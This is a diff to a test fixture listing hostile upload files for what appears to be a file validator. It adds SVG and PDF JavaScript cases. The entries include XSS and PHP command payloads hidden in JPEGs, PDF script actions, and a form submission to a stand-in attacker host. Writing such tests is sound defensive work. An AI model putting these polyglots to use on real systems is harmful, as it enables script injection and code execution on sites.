@@ -72,6 +72,7 @@ export const hostileFiles: readonly HostileFile[] = [
   ['a photo that is a picture on a page too', 'photo.jpg', joined(aJpeg(), text('<img src=x onerror=alert(1)>')), second],
   ['a photo that is a script too', 'photo.jpg', joined(aJpeg(), text('\n#!/usr/bin/env python3\n')), second],
   ['a photo that is PostScript too', 'photo.jpg', joined(aJpeg(), text('%!PS-Adobe-3.0\n')), second],
+  ['a photo that is a drawing too', 'photo.jpg', joined(aJpeg(), text('<svg onload=alert(1)>')), second],
   ['a photo that is PHP too', 'photo.jpg', joined(aJpeg(), text('<?php system("id");')), second],
   ['a WebP that is a page too', 'photo.webp', joined(aWebp(), text('<iframe src="//evil.example">')), second],
   ['a photo that is a PDF too', 'photo.jpg', joined(aJpeg(), aPdf()), second],
@@ -85,6 +86,8 @@ export const hostileFiles: readonly HostileFile[] = [
   ['a PDF with files in it', 'invoice.pdf', aPdf('<< /EmbeddedFiles 3 0 R >>'), /files in it/],
   ['a PDF with a password', 'invoice.pdf', aPdf('<< /Encrypt 4 0 R >>'), /password/],
   ['a PDF that sends what is typed', 'invoice.pdf', aPdf('<< /S /SubmitForm /F (https://evil.example) >>'), /runs something/],
+  ['a PDF with a script and no more', 'invoice.pdf', aPdf('<< /JS (app.alert(1)) >>'), /runs something/],
+  ['a PDF that plays', 'invoice.pdf', aPdf('<< /S /Rendition /JS (app.alert(1)) >>'), /runs something/],
   ['a PDF with a packed script', 'invoice.pdf', packed('<< /S /JavaScript /JS (app.alert(1)) >>'), /runs something/],
   [
     'a PDF with a packed script spelt otherwise',
